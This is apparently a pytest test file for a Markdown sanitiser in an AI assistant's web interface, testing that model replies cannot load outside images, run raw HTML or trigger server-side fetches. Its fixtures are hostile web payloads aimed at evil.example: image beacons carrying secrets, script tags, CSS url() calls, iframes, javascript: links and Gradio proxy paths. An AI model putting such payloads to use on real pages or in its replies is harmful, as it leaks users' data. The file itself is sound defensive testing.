"""Markdown made safe to show (web/safe_markdown.py), and the steps and sources around it."""

from __future__ import annotations

import re

import pytest
from markdown_it import MarkdownIt

from assistant.domain.reply import Step
from assistant.domain.sources import Source
from assistant.web.image_policy import ImagePolicy
from assistant.web.render import sources_notice, step_message
from assistant.web.safe_markdown import code_fence, markdown_text, safe_markdown

NONE = ImagePolicy()
COMMONMARK = MarkdownIt("commonmark").enable("table")  # an oracle: raw HTML passes through
EVIL = "https://evil.example"


def images_in(markdown: str) -> list[str]:
    """The addresses Markdown would load as images: `![..](..)` and raw `<img`."""
    return re.findall(r"!\[[^\]]*\]\(([^)\s]*)", markdown) + re.findall(r"<img[^>]*", markdown)


@pytest.mark.parametrize("image", [
    f"![cat]({EVIL}/cat.png?q=secret)",
    f"![cat]({EVIL}/cat.png \"a title\")",
    f"![cat](<{EVIL}/cat with space.png>)",
    "![cat](//evil.example/cat.png)",
    "![cat](/\\evil.example/cat.png)",
    "![cat](&#47;&#47;evil.example/cat.png)",
    "![cat](\thttps://evil.example/cat.png)",
    f"![cat [nested] alt]({EVIL}/cat.png)",
])
def test_an_outside_image_becomes_a_link_that_names_its_host(image):
    shown = safe_markdown(f"Look: {image} there.", NONE)

    assert images_in(shown) == []
    assert "[🖼 image from evil.example](" in shown
    assert shown.startswith("Look: ") and shown.endswith(" there.")


def test_reference_images_are_resolved_and_become_links_too():
    text = f"![a][pic] and ![pic] and ![b][]\n\n[pic]: {EVIL}/ref.png\n[b]: {EVIL}/b.png"
    shown = safe_markdown(text, NONE)

    assert "![" not in shown
    assert shown.count("🖼 image from evil.example") == 3


def test_an_image_inside_a_link_is_text_in_that_link():
    shown = safe_markdown(f"[![badge]({EVIL}/b.svg)](https://docs.example/)", NONE)
    assert shown == '[🖼 image from evil.example](https://docs.example/ "docs.example")'


@pytest.mark.parametrize("image", [
    "![chart](/gradio_api/file=/tmp/chart.png)",
    "![dot](data:image/png;base64,iVBORw0KGgo=)",
    "![ok](https://images.example/ok.png)",
    "![ok](https://cdn.images.example/ok.png)",
])
def test_the_app_s_own_data_and_allowed_images_show(image):
    policy = ImagePolicy(frozenset({"images.example", "*.images.example"}))
    assert safe_markdown(image, policy) == image


def test_an_own_path_that_asks_the_server_to_fetch_elsewhere_does_not_show():
    """Gradio's /gradio_api/file=<url> fetches any public address on the server's side."""
    for address in ("/gradio_api/file=https://evil.example/?q=secret",
                    "/gradio_api/file=https%3A//evil.example/", "/gradio_api/proxy=https://x.example/",
                    "chart.png"):
        shown = safe_markdown(f"![x]({address})", NONE)
        assert images_in(shown) == [] and shown == f"[🖼 image]({address})"


def test_an_own_path_that_is_not_a_file_does_not_show():
    """Loading the app's other paths as images would act on them: /logout signs out."""
    for address in ("/logout", "/gradio_api/file=/../../logout", "/gradio_api/file=/tmp/%2e%2e/x",
                    "/GRADIO_API/file=/tmp/../../logout?x=1", "/v1/models"):
        shown = safe_markdown(f"![x]({address})", NONE)
        assert images_in(shown) == [] and shown == f"[🖼 image]({address})"


@pytest.mark.parametrize("text", [
    "<p>`<img src=https://evil.example/a.png>`",  # a tag opens an HTML block: no code in it
    "<b>\n`<img src=https://evil.example/a.png>`",
    "- <p>`<img src=https://evil.example/a.png>`",
    "`a\n<div>\n<img src=https://evil.example/a.png>`",  # a span ends with its line
    "| `x | <img src=https://evil.example/a.png>` |",  # a table's cell ends a span
    "[a](https://x.example/`)<img src=https://evil.example/a.png>`",  # no code in an address
    "```\nx\n    ```\n```\n<img src=https://evil.example/a.png>",  # 4 spaces close nothing
    "```\r\nx\r\n```\r\n<img src=https://evil.example/a.png>",
    "![r][x]\n\n> [x]: https://evil.example/a.png",  # a reference we cannot resolve
    "![a](https://evil.example/a.png\u00a0)",
])
def test_what_the_page_might_read_otherwise_is_escaped(text):
    html = COMMONMARK.render(safe_markdown(text, NONE))
    assert "<img" not in html, html


def test_every_payload_renders_to_no_fetching_element():
    """Rendered by a CommonMark parser with raw HTML on, as the page's is."""
    payloads = [f"![a]({EVIL}/a.png)", f'<img src="{EVIL}/b.png">', f"![c][r]\n\n[r]: {EVIL}/c",
                f'<p style="background:url({EVIL}/d)">x</p>', f'<form action="{EVIL}"><button>x',
                f'<iframe src="{EVIL}">', f"<video poster={EVIL}/e>", f"[![f]({EVIL}/f)]({EVIL})"]
    html = COMMONMARK.render(safe_markdown("\n\n".join(payloads), NONE))
    assert re.search(r"<(img|form|button|iframe|video|input)\b|<[a-z]+ [^>]*style=", html) is None
    assert html.count('🖼 image from evil.example</a>') == 3


def test_an_allowed_host_does_not_allow_look_alikes():
    policy = ImagePolicy(frozenset({"images.example"}))
    for address in ("https://images.example.evil.example/x.png",
                    "https://images.example@evil.example/x.png",
                    "https://evilimages.example/x.png", "ftp://images.example/x.png"):
        assert images_in(safe_markdown(f"![x]({address})", policy)) == []


@pytest.mark.parametrize("html", [
    f'<img src="{EVIL}/raw.png">',
    f"<IMG SRC={EVIL}/raw.png>",
    f'<div style="background-image:url({EVIL}/css.png)">x</div>',
    f'<form action="{EVIL}/f"><input name="q"><button>Go</button></form>',
    f'<iframe src="{EVIL}/frame"></iframe>',
    f'<svg><image href="{EVIL}/svg.png"/></svg>',
    f'<link rel="prefetch" href="{EVIL}/p">',
    f"<a href=\"{EVIL}\" ping=\"{EVIL}/ping\">x</a>",
    "<script>alert(1)</script>",
    f"<style>body{{background:url({EVIL}/s.png)}}</style>",
    f"<img\nsrc={EVIL}/split.png>",
    "<!-- comment --><?php ?><!DOCTYPE html>",
])
def test_raw_html_is_shown_as_text(html):
    shown = safe_markdown(html, NONE)
    assert re.search(r"<(?=[A-Za-z!?/])", shown) is None  # every tag now starts "&lt;"
    assert shown.replace("&lt;", "<") == html


def test_plain_tags_autolinks_and_comparisons_keep_their_meaning():
    text = "H<sub>2</sub>O<br>, **a** <b>b</b> <https://docs.example/x> 1 < 2"
    assert safe_markdown(text, NONE) == text
    assert safe_markdown('<b class="x">', NONE) == '&lt;b class="x">'  # attributes: text
    assert safe_markdown("<javascript:alert(1)>", NONE) == "&lt;javascript:alert(1)>"


def test_code_is_left_as_it_is():
    text = ("Use `<img src=x>` or ``a ` <b c>``:\n\n```html\n<img src=\"" + EVIL + "/a.png\">\n"
            "![x](" + EVIL + "/b.png)\n```\n\n~~~\n<form>\n~~~\n")
    assert safe_markdown(text, NONE) == text


def test_an_unclosed_fence_holds_the_rest_as_code_and_an_escaped_backtick_opens_nothing():
    assert safe_markdown("```\n<img src=x>", NONE) == "```\n<img src=x>"
    shown = safe_markdown("\\`<img src=x>`", NONE)
    assert shown == "\\`&lt;img src=x>`"


def test_links_name_their_host_and_dead_schemes_lose_their_link():
    shown = safe_markdown("[docs](https://docs.example/a) [t](https://docs.example/b 'mine') "
                          "[x](javascript:alert(1)) [y](JaVaScRiPt&#58;alert(1)) "
                          "[z](data:text/html,hi) [v](vbscript:x)", NONE)
    assert shown == ('[docs](https://docs.example/a "docs.example") '
                     "[t](https://docs.example/b 'mine') x y z v")


def test_a_long_reply_is_handled_in_one_pass():
    text = "[" * 20_000 + "`" * 20_000 + "<" * 20_000 + "![x](" * 5_000
    shown = safe_markdown(text, NONE)  # no quadratic work: this returns at once
    assert re.search(r"<(?=[A-Za-z!?/])", shown) is None


def test_nothing_to_change_is_returned_as_it_is():
    text = "Plain text, **bold**, a list:\n- one\n- two\n"
    assert safe_markdown(text, NONE) is text


def test_a_fence_is_longer_than_any_run_of_backticks_inside():
    inside = f"````\n![x]({EVIL}/a.png)\n`````"
    fenced = code_fence(inside, "json")
    assert fenced.startswith("``````json\n") and fenced.endswith("\n``````")
    assert safe_markdown(fenced, NONE) == fenced  # all of it is code


def test_a_tool_step_cannot_break_out_of_its_fences():
    step = Step("tool", name="fetch", arguments='{"q": "````"}', ended=1.0,
                text=f"````\n<img src={EVIL}/x.png>\n````")
    body = step_message(step, 0)["content"]
    blocks = re.findall(r"^(`{3,})[a-z]*\n(.*?)\n\1$", body, re.M | re.S)
    assert [code for _, code in blocks] == ['{"q": "````"}', step.text]


def test_sources_show_names_and_headings_as_text():
    source = Source(1, 7, "doc", "<img src=x>.md", 2, f"Intro ![h]({EVIL}/h.png)", "text")
    line = sources_notice([source], lambda s: "source/7?o=a&s=b")["content"]
    assert "<img" not in line and "![" not in line
    assert markdown_text("a.md [b](c) <i>") == "a.md \\[b\\](c) &lt;i>"
